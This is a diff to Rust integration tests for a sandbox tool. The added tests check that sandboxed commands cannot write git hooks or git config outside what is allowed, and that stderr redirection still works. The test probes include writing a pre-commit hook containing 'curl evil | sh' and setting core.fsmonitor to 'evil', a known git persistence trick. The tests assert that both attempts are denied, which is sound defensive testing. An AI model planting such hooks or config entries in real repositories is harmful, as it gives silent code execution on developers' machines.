@@ -209,7 +209,10 @@ fn the_default_identity_cannot_persist_outside_the_sandbox_and_project_tests_sti
     let bashrc = user.write(".bashrc", "# the user's own\n");
     let proj = user.home.join("proj");
     std::fs::create_dir(&proj).expect("mkdir proj");
-    user.chown(&proj);
+    let out = Command::new("git").args(["init", "-q"]).current_dir(&proj).output().expect("git init");
+    assert!(out.status.success(), "git init: {}", describe(&out));
+    let out = Command::new("chown").args(["-R", &format!("{0}:{0}", user.uid)]).arg(&proj).output().expect("chown");
+    assert!(out.status.success(), "chown: {}", describe(&out));
     user.write(
         "proj/Makefile",
         "test:\n\techo built > out.txt\n\tmkdir -p $(HOME)/.cache && touch $(HOME)/.cache/made\n",
@@ -238,14 +241,20 @@ try own-home sh -c 'echo x > "$HOME/.dotfile"'
 try tmp sh -c 'echo x > {marker}'
 try make make -s test
 try npm npm test --silent
+try git-hook sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
+try git-config sh -c 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config'
+try git-commit sh -c 'git add file && git -c safe.directory="*" -c user.name=t -c user.email=t@t commit -qm sandboxed'
 echo "npm-home $(cat npm-out.txt)""#,
         home = user.home.display()
     );
     let expected = |uid: u32| {
         format!(
             "id {uid}\nuser {name} {name}\nxdg unset\nbashrc denied\nprofile denied\nother-project denied\n\
-             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\n",
-            name = if uid == 0 { "root".to_owned() } else { user.name.clone() }
+             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\ngit-hook denied\ngit-config denied\ngit-commit {commit}\n",
+            name = if uid == 0 { "root".to_owned() } else { user.name.clone() },
+            // Root without capabilities cannot write the user's own .git
+            // (0755): permissions, not sbx.
+            commit = if uid == 0 { "denied" } else { "ok" },
         )
     };
     // As sudo would start it for this user: SUDO_UID picks the identity.
@@ -276,6 +285,8 @@ echo "npm-home $(cat npm-out.txt)""#,
         assert!(!Path::new(&marker).exists(), "{marker} is in the sandbox's private /tmp, not the host's");
         assert_eq!(std::fs::read_to_string(proj.join("file")).expect("the project file"), "mine\n");
         assert_eq!(std::fs::read_to_string(proj.join("out.txt")).expect("make's output"), "built\n");
+        assert!(!proj.join(".git/hooks/pre-commit").exists());
+        assert!(!std::fs::read_to_string(proj.join(".git/config")).expect("config").contains("evil"));
         for f in ["file", "out.txt", "npm-out.txt"] {
             let _ = std::fs::remove_file(proj.join(f));
         }
@@ -410,12 +421,22 @@ attempt("write-var-tmp", lambda: write("/var/tmp/sbx-test-denied"))
     assert!(dir.path().join("written-by-the-sandbox").exists());
     assert!(!Path::new("/var/tmp/sbx-test-denied").exists());
 
-    // And from a shell, as the issue has it.
+    // And from a shell, as the issue has it; with stderr going to a log
+    // file outside the rules, which scripts reopen by name.
+    let log = outside.path().join("log");
+    std::fs::write(&log, "").expect("creating the log");
+    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o666)).expect("chmod");
     let script =
-        "echo hi >/dev/null && echo null-ok; head -c 4 /dev/urandom | wc -c; grep -c '^Pid:' /proc/self/status";
-    let mut cmd =
-        run_cmd(&sbx, &cg, &["--user", "65534", "--policy", policy.to_str().expect("UTF-8")], &["sh", "-c", script]);
-    let out = cmd.current_dir(dir.path()).output().expect("running sbx-user run");
-    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
-    assert_eq!(String::from_utf8_lossy(&out.stdout), "null-ok\n4\n1\n", "{}", describe(&out));
+        "echo hi >/dev/null && echo null-ok; head -c 4 /dev/urandom | wc -c; grep -c '^Pid:' /proc/self/status; \
+                  echo by-name >/dev/stderr; echo by-fd >&2";
+    for policy in [vec!["--policy", policy.to_str().expect("UTF-8")], vec![]] {
+        let mut cmd = run_cmd(&sbx, &cg, &[&["--user", "65534"], policy.as_slice()].concat(), &["sh", "-c", script]);
+        let stderr_file = std::fs::OpenOptions::new().append(true).open(&log).expect("opening the log");
+        let out = cmd.current_dir(dir.path()).stderr(stderr_file).output().expect("running sbx-user run");
+        let errors = std::fs::read_to_string(&log).expect("reading the log");
+        assert_eq!(out.status.code(), Some(0), "{policy:?}: {}\n{errors}", describe(&out));
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "null-ok\n4\n1\n", "{policy:?}: {errors}");
+        assert_eq!(errors, "by-name\nby-fd\n", "{policy:?}");
+        std::fs::write(&log, "").expect("emptying the log");
+    }
 }
